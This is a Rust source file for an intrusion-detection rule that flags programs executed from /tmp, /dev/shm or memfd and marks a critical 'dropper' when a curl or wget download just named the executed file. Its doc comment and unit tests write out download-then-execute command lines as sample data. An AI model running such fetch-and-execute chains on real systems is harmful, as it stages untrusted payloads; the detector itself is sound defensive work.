//! Execution from a world-writable directory (/tmp, /dev/shm, /var/tmp) or from a memory-only
//! file (memfd, `fexecve` through /dev/fd or /proc/self/fd). Droppers stage payloads there
//! because any user can write there and nothing is installed.
//!
//! ATT&CK: T1059 (Command and Scripting Interpreter) for temp-dir execution, T1620 (Reflective
//! Code Loading) for fileless execution, T1105 (Ingress Tool Transfer) when a downloader named
//! the very file shortly before it ran (`curl -o /tmp/x …; /tmp/x`): a dropper, critical.

use std::collections::VecDeque;

use chrono::{DateTime, TimeDelta, Utc};

use super::shell::{is_downloader, is_interpreter};
use super::{Detector, evidence};
use crate::config::ExecFromTmpConfig;
use crate::event::{Event, EventKind, Exec};
use crate::finding::{Entity, Finding, Severity};
use crate::proctable::{ProcessTable, basename};

pub struct ExecFromTmp {
    cfg: ExecFromTmpConfig,
    /// Recent downloader execs (time, argv, evidence): a temp file one of them named and that
    /// runs within [`DOWNLOAD_WINDOW_SECS`] was downloaded and executed.
    downloads: VecDeque<(DateTime<Utc>, Vec<String>, serde_json::Value)>,
}

/// How long a downloader's command line is remembered.
const DOWNLOAD_WINDOW_SECS: i64 = 120;
/// At most this many downloader command lines are remembered.
const MAX_DOWNLOADS: usize = 256;

/// Why an exec was judged to come from a suspicious place.
#[derive(Debug, PartialEq, Eq)]
enum Origin<'a> {
    /// The executable itself lives in a temp dir.
    TempBinary(&'a str),
    /// An interpreter runs a script that lives in a temp dir.
    TempScript(&'a str),
    /// The executable has no path on disk (memfd or a file descriptor).
    Fileless(&'a str),
}

impl ExecFromTmp {
    pub fn new(cfg: ExecFromTmpConfig) -> Self {
        Self {
            cfg,
            downloads: VecDeque::new(),
        }
    }

    /// Remember a downloader's command line; forget those past the window.
    fn note_download(&mut self, ev: &Event, e: &Exec) {
        let oldest = ev.ts - TimeDelta::seconds(DOWNLOAD_WINDOW_SECS);
        while self.downloads.front().is_some_and(|d| d.0 < oldest) {
            self.downloads.pop_front();
        }
        if is_downloader(basename(&e.filename)) {
            if self.downloads.len() == MAX_DOWNLOADS {
                self.downloads.pop_front();
            }
            self.downloads
                .push_back((ev.ts, e.argv.clone(), evidence(ev)));
        }
    }

    /// The evidence of a recent download that named `path` (as `-o PATH`, `-OPATH`, `PATH`).
    fn downloaded(&self, path: &str) -> Option<&serde_json::Value> {
        self.downloads
            .iter()
            .rev()
            .find(|(_, argv, _)| {
                argv.iter().skip(1).any(|a| {
                    a == path
                        || a.strip_prefix("-o").or_else(|| a.strip_prefix("-O")) == Some(path)
                        || a.strip_prefix("--output=") == Some(path)
                        || a.strip_prefix("--output-document=") == Some(path)
                })
            })
            .map(|d| &d.2)
    }

    fn in_temp_dir(&self, path: &str) -> bool {
        self.cfg.dirs.iter().any(|d| {
            let d = d.trim_end_matches('/');
            path.len() > d.len() && path.starts_with(d) && path.as_bytes()[d.len()] == b'/'
        })
    }

    fn classify<'a>(&self, e: &'a Exec) -> Option<Origin<'a>> {
        let file = e.filename.as_str();
        if is_fd_path(file) || file.starts_with("memfd:") || file.contains("/memfd:") {
            return Some(Origin::Fileless(file));
        }
        if self.in_temp_dir(file) {
            return Some(Origin::TempBinary(file));
        }
        if is_interpreter(basename(file)) {
            // The first non-option argument is the script (`bash /tmp/x.sh`, `python3 -u /tmp/x`).
            let script = e.argv.iter().skip(1).find(|a| !a.starts_with('-'))?;
            if self.in_temp_dir(script) {
                return Some(Origin::TempScript(script));
            }
        }
        None
    }
}

/// `/dev/fd/N`, `/proc/self/fd/N` or `/proc/PID/fd/N`: what the kernel reports for `fexecve`.
fn is_fd_path(path: &str) -> bool {
    let rest = if let Some(r) = path.strip_prefix("/dev/fd/") {
        r
    } else if let Some(r) = path.strip_prefix("/proc/") {
        match r.split_once("/fd/") {
            Some((who, fd))
                if who == "self"
                    || who == "thread-self"
                    || who.bytes().all(|b| b.is_ascii_digit()) =>
            {
                fd
            }
            _ => return false,
        }
    } else {
        return false;
    };
    !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit())
}

impl Detector for ExecFromTmp {
    fn id(&self) -> &'static str {
        "exec_from_tmp"
    }

    fn on_event(&mut self, ev: &Event, _procs: &ProcessTable, out: &mut Vec<Finding>) {
        let EventKind::Exec(e) = &ev.kind else {
            return;
        };
        self.note_download(ev, e);
        let Some(origin) = self.classify(e) else {
            return;
        };
        if self.cfg.allow.iter().any(|a| a == &e.filename) {
            return;
        }
        let mut evidence_list = vec![evidence(ev)];
        let (technique, severity, summary) = match origin {
            Origin::TempBinary(p) if self.downloaded(p).is_some() => {
                evidence_list.extend(self.downloaded(p).cloned());
                (
                    "T1105",
                    Severity::Critical,
                    format!(
                        "executed {p} right after downloading it to a world-writable directory"
                    ),
                )
            }
            Origin::TempBinary(p) => (
                "T1059",
                Severity::Medium,
                format!("executed {p} from a world-writable directory"),
            ),
            Origin::TempScript(p) => (
                "T1059",
                Severity::Medium,
                format!("{} ran script {p} from a world-writable directory", e.comm),
            ),
            Origin::Fileless(p) => (
                "T1620",
                Severity::High,
                format!("fileless execution through {p} (memfd or file descriptor)"),
            ),
        };
        out.push(Finding {
            ts: ev.ts,
            detector: self.id().into(),
            technique: technique.into(),
            severity,
            entity: Entity::Process {
                pid: e.pid,
                start_ns: ev.ts.timestamp_nanos_opt().map_or(0, |n| n as u64),
                exe: e.filename.clone(),
            },
            summary,
            evidence: evidence_list,
            author: None,
            stage: None,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exec(file: &str, argv: &[&str]) -> Exec {
        Exec {
            pid: 10,
            ppid: 1,
            uid: 1000,
            gid: 1000,
            comm: basename(file).chars().take(15).collect(),
            filename: file.into(),
            argv: argv.iter().map(|s| (*s).into()).collect(),
            argv_truncated: false,
            cgroup_id: 0,
        }
    }

    #[test]
    fn classifies_positive_and_negative_paths() {
        let d = ExecFromTmp::new(ExecFromTmpConfig::default());
        assert!(matches!(
            d.classify(&exec("/tmp/x", &["x"])),
            Some(Origin::TempBinary(_))
        ));
        assert!(matches!(
            d.classify(&exec("/dev/shm/.a/b", &["b"])),
            Some(Origin::TempBinary(_))
        ));
        assert!(matches!(
            d.classify(&exec("/bin/bash", &["bash", "/tmp/s.sh"])),
            Some(Origin::TempScript(_))
        ));
        assert!(matches!(
            d.classify(&exec("/dev/fd/3", &["x"])),
            Some(Origin::Fileless(_))
        ));
        assert!(matches!(
            d.classify(&exec("/proc/self/fd/7", &["x"])),
            Some(Origin::Fileless(_))
        ));
        assert_eq!(d.classify(&exec("/usr/bin/ls", &["ls", "/tmp"])), None);
        assert_eq!(d.classify(&exec("/tmpfoo/bin/x", &["x"])), None);
        assert_eq!(d.classify(&exec("/tmp", &["x"])), None);
        assert_eq!(d.classify(&exec("/usr/bin/cat", &["cat", "/tmp/a"])), None);
        assert_eq!(d.classify(&exec("/proc/self/exe", &["x"])), None);
        assert_eq!(d.classify(&exec("/dev/fd/", &["x"])), None);
    }

    #[test]
    fn a_file_a_downloader_just_named_is_a_critical_dropper_and_only_then() {
        use crate::event::Source;
        let at = |secs: i64| DateTime::from_timestamp(1_800_000_000 + secs, 0).expect("ts");
        let run = |gap: i64, dl: &[&str]| {
            let mut d = ExecFromTmp::new(ExecFromTmpConfig::default());
            let procs = ProcessTable::with_capacity(16);
            let mut out = Vec::new();
            let curl = Event::new(
                at(0),
                Source::Ebpf,
                EventKind::Exec(exec("/usr/bin/curl", dl)),
            );
            d.on_event(&curl, &procs, &mut out);
            let x = Event::new(
                at(gap),
                Source::Ebpf,
                EventKind::Exec(exec("/tmp/x", &["x"])),
            );
            d.on_event(&x, &procs, &mut out);
            assert_eq!(out.len(), 1);
            (
                out[0].severity,
                out[0].technique.clone(),
                out[0].evidence.len(),
            )
        };
        assert_eq!(
            run(1, &["curl", "-o", "/tmp/x", "http://h/p"]),
            (Severity::Critical, "T1105".into(), 2)
        );
        assert_eq!(
            run(1, &["wget", "-O/tmp/x", "http://h/p"]).0,
            Severity::Critical
        );
        // Too late, or another file: an ordinary temp-dir exec.
        assert_eq!(
            run(600, &["curl", "-o", "/tmp/x", "http://h/p"]).0,
            Severity::Medium
        );
        assert_eq!(
            run(1, &["curl", "-o", "/tmp/y", "http://h/p"]).0,
            Severity::Medium
        );
    }
}
